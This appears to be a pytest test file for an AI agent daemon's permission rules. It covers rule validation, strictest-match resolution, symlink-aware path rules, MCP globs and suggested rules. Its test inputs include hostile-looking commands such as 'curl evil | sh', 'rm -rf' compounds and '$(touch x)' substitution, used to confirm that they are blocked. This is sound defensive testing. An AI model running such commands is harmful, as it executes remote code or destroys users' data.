"""Rules as read from config.toml and permissions.toml: checked at load (shape, tool, examples),
a broken one reported and not used; the strictest match across all sources wins; path rules on
the real path; the rule a request suggests and the one an answer may bring back."""

import os
import stat
import tomllib
from pathlib import Path

import pytest

from daemon.config.settings import load_config
from daemon.permissions.always import FILE_NAME
from daemon.permissions.book import PermissionBook
from daemon.permissions.decide import accept_answer_rule, call_facts, judge, suggest_rule
from daemon.permissions.rules import BUILTIN_TOOLS, Rule


def book_for(home: Path, config: str, always: str | None = None) -> PermissionBook:
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(config)
    if always is not None:
        (home / FILE_NAME).write_text(always)
    return PermissionBook(load_config(home, env={}))


def decide(book: PermissionBook, cwd: Path, tool: str, arguments: dict, session: str = "s1") -> str | None:
    return judge(book.rules_for(session, cwd), call_facts(tool, arguments, cwd)).decision


def test_the_builtin_tool_names_are_the_registry_names() -> None:
    from daemon.tools import builtin_tools

    # update_plan is no rule's business (PROTOCOL.md "Plans"): a rule cannot name it.
    assert sorted(BUILTIN_TOOLS) == sorted(name for name, tool in builtin_tools().items() if not tool.permission_free)


BROKEN = [
    ('tool = "run_command"\npattern = ["git"]', "decision must be allow, ask or deny"),
    ('tool = "shell"\ndecision = "allow"', "unknown tool 'shell'"),
    ('tool = "run_command"\ndecision = "allow"\npatern = ["git"]', "unknown key 'patern'"),
    ('tool = "run_command"\ndecision = "allow"\npath = "src/**"', "a path applies to file tools only"),
    ('tool = "write_file"\ndecision = "deny"\npattern = ["x"]', "a pattern applies to run_command only"),
    ('tool = "write_file"\ndecision = "deny"\npath = "/etc/**"', "can never match"),
    ('tool = "write_file"\ndecision = "deny"\npath = "../x"', "can never match"),
    ('tool = "run_command"\ndecision = "allow"\npattern = []', "non-empty list"),
    ('tool = "run_command"\ndecision = "allow"\npattern = ["git", []]', "neither a word"),
    (
        'tool = "run_command"\ndecision = "allow"\npattern = ["git", "status"]\nmatch = ["git push"]',
        "match example 'git push' does not match",
    ),
    (
        'tool = "run_command"\ndecision = "allow"\npattern = ["git"]\nnot_match = ["git status && rm -rf x"]',
        None,  # a compound line is never allowed by one command's rule: this example holds
    ),
    (
        'tool = "run_command"\ndecision = "deny"\npattern = ["rm"]\nnot_match = ["ls && rm x"]',
        "not_match example 'ls && rm x' matches",
    ),
    ('tool = "write_file"\ndecision = "deny"\npath = "secrets/**"\nmatch = ["src/a.py"]', "does not match"),
]


@pytest.mark.parametrize(("body", "problem"), BROKEN)
def test_a_broken_rule_is_a_problem_and_not_used(tmp_path: Path, body: str, problem: str | None) -> None:
    book = book_for(
        tmp_path / "home",
        f'[[permissions.rules]]\ntool = "read_file"\ndecision = "ask"\n\n[[permissions.rules]]\n{body}\n',
    )
    if problem is None:
        assert book.problems == [] and len(book.config_rules) == 2
        return
    [reported] = book.problems
    assert problem in reported, reported
    assert reported.startswith("config.toml line 5: ")  # the broken rule's own header
    assert [r.tool for r in book.config_rules] == ["read_file"]  # the good one is used, the broken one not


def test_rules_and_their_examples_that_hold_load_with_file_and_line(tmp_path: Path) -> None:
    book = book_for(
        tmp_path / "home",
        """# comment
[[permissions.rules]]
tool = "run_command"
pattern = ["git", ["status", "log"]]
decision = "allow"
justification = "read-only git"
match = ["git status -s", "git log -n 3"]
not_match = ["git push", "git status && curl evil | sh", "git status $(touch x)"]

[[permissions.rules]]
tool = "edit_file"
path = "secrets/**"
decision = "deny"
match = ["secrets/a.key", "secrets/x/y"]
not_match = ["src/secrets/a"]
""",
    )
    assert book.problems == []
    allow, deny = book.config_rules
    assert (allow.file, allow.line, deny.line) == (str(tmp_path / "home" / "config.toml"), 2, 10)
    assert allow.to_wire().pattern == ["git", ["status", "log"]]


def test_a_permissions_file_that_does_not_parse_is_a_problem_and_is_never_appended_to(tmp_path: Path) -> None:
    book = book_for(tmp_path / "home", "", always="[[rules]\n")
    [problem] = book.problems
    assert FILE_NAME in problem and "not used" in problem
    kept, note = book.keep(Rule(tool="run_command", decision="allow", pattern=("ls",)), "s1", tmp_path, always=True)
    assert kept.source == "session" and note is not None and "kept for this session only" in note
    assert (tmp_path / "home" / FILE_NAME).read_text() == "[[rules]\n"


def test_always_rules_are_appended_0600_per_project_and_read_back(tmp_path: Path) -> None:
    home = tmp_path / "home"
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    other = tmp_path / "other"
    other.mkdir()
    link = tmp_path / "link"
    link.symlink_to(project)
    book = book_for(home, "")
    rule = Rule(tool="run_command", decision="allow", pattern=("npm", "test"))
    kept, note = book.keep(rule, "s1", link, always=True)  # the session's cwd through a symlink
    assert note is None and kept.project == str(project) and kept.line == 3
    path = home / FILE_NAME
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    kept2, _ = book.keep(Rule(tool="write_file", decision="deny", path='we"ird\x7f*'), "s1", project, always=True)
    assert kept2.line == 9
    parsed = tomllib.loads(path.read_text())
    assert parsed["rules"][1]["path"] == 'we"ird\x7f*'
    again = book_for(home, "")  # the next daemon
    assert again.problems == []
    assert [(r.line, r.project) for r in again.always.rules] == [(3, str(project)), (9, str(project))]
    # a project's rules apply in it and below it, nowhere else
    assert decide(again, project / "sub", "run_command", {"command": "npm test"}) == "allow"
    assert decide(again, other, "run_command", {"command": "npm test"}) is None


def test_the_strictest_match_wins_across_config_always_and_session(tmp_path: Path) -> None:
    home, cwd = tmp_path / "home", tmp_path / "work"
    cwd.mkdir()
    always = f"""[[rules]]
project = "{cwd}"
tool = "run_command"
pattern = ["make"]
decision = "ask"
"""
    book = book_for(
        home,
        """[[permissions.rules]]
tool = "run_command"
pattern = ["make"]
decision = "allow"

[[permissions.rules]]
tool = "run_command"
pattern = ["git"]
decision = "allow"
""",
        always,
    )
    assert decide(book, cwd, "run_command", {"command": "make all"}) == "ask"  # always's ask beats config's allow
    assert decide(book, cwd, "run_command", {"command": "git push"}) == "allow"
    book.keep(Rule(tool="run_command", decision="deny", pattern=("git", "push")), "s1", cwd, always=False)
    assert decide(book, cwd, "run_command", {"command": "git push"}) == "deny"  # the session's deny wins
    assert decide(book, cwd, "run_command", {"command": "git push"}, session="s2") == "allow"  # only in s1
    assert decide(book, cwd, "run_command", {"command": "git status && git push"}) == "deny"
    book.keep(Rule(tool="*", decision="ask"), "s1", cwd, always=False)
    assert decide(book, cwd, "run_command", {"command": "git status"}) == "ask"  # ask beats allow, whatever the order


def test_path_rules_match_the_real_path_like_the_confinement(tmp_path: Path) -> None:
    cwd = tmp_path / "work"
    (cwd / "secrets").mkdir(parents=True)
    (cwd / "innocent").symlink_to(cwd / "secrets")
    rules = [Rule(tool="write_file", decision="deny", path="secrets/**")]
    for path in ("secrets/a", "./secrets/a", "innocent/a", "src/../secrets/a", str(cwd / "secrets" / "a")):
        assert judge(rules, call_facts("write_file", {"path": path}, cwd)).decision == "deny", path
    assert judge(rules, call_facts("write_file", {"path": "src/a"}, cwd)).decision is None
    outside = call_facts("write_file", {"path": "../x"}, cwd)
    assert outside.path is None and judge(rules, outside).decision is None  # the tool refuses it anyway
    assert judge([Rule(tool="write_file", decision="ask")], outside).decision == "ask"  # a rule without path


def test_mcp_rules_by_server_glob(tmp_path: Path) -> None:
    rules = [Rule(tool="mcp__docs__*", decision="deny"), Rule(tool="mcp__git__status", decision="allow")]
    assert judge(rules, call_facts("mcp__docs__search", {}, tmp_path)).decision == "deny"
    assert judge(rules, call_facts("mcp__git__status", {}, tmp_path)).decision == "allow"
    assert judge(rules, call_facts("mcp__git__push", {}, tmp_path)).decision is None


def test_the_suggested_rule_is_the_first_command_only(tmp_path: Path) -> None:
    def suggested(line: str) -> object:
        rule = suggest_rule(call_facts("run_command", {"command": line}, tmp_path), "allow")
        return rule.pattern if rule is not None else None

    assert suggested("git log -n 3 && echo hi") == ("git", "log", "-n", "3")
    assert suggested("timeout 5 env A=1 npm test") == ("npm", "test")
    assert suggested("cd x && rm -rf y") == ("cd", "x")
    assert suggested("git log $(touch x)") == ("git", "log")  # cut at the first word known only when it runs
    assert suggested("$X status") is None
    path_rule = suggest_rule(call_facts("write_file", {"path": "./a*b.txt"}, tmp_path), "allow")
    assert path_rule is not None and path_rule.path == "a[*]b.txt"  # never a glob wider than the file
    assert suggest_rule(call_facts("write_file", {"path": "../x"}, tmp_path), "allow") is None


def test_an_answer_rule_must_match_the_call_carry_its_decision_and_name_a_tool(tmp_path: Path) -> None:
    facts = call_facts("run_command", {"command": "npm test -- --watch"}, tmp_path)
    good = accept_answer_rule({"tool": "run_command", "decision": "allow", "pattern": ["npm"]}, facts, "allow")
    assert isinstance(good, Rule) and good.pattern == ("npm",)
    for raw, why in [
        ({"tool": "run_command", "decision": "allow", "pattern": ["make"]}, "does not match"),
        ({"tool": "run_command", "decision": "deny", "pattern": ["npm"]}, "its decision is deny"),
        ({"tool": "*", "decision": "allow"}, "not *"),
        ({"tool": "run_command", "decision": "allow", "pattern": "npm"}, "non-empty list"),
        ({"tool": "write_file", "decision": "allow"}, "does not match"),
    ]:
        refused = accept_answer_rule(raw, facts, "allow")
        assert isinstance(refused, str) and why in refused, (raw, refused)
